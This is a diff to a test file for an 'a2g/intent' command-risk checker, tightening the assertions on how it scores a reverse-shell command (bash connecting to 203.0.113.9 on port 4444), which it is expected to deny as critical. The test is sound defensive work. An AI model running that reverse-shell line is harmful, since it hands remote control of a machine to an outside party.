@@ -88,7 +88,8 @@ describe("a2g/intent", () => {
       command("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
     );
     expect(result).toMatchObject({ verdict: "DENIED", risk_assessment: { score: expect.any(Number) } });
-    expect((result?.["risk_assessment"] as { score: number }).score).toBeGreaterThanOrEqual(0.8);
+    expect(result).toHaveProperty("risk_assessment.score", expect.closeTo(0.9, 0));
+    expect(result).toHaveProperty("risk_assessment.level", "CRITICAL");
     expect(result?.["capability_manifest"]).toBeUndefined();
   });
 
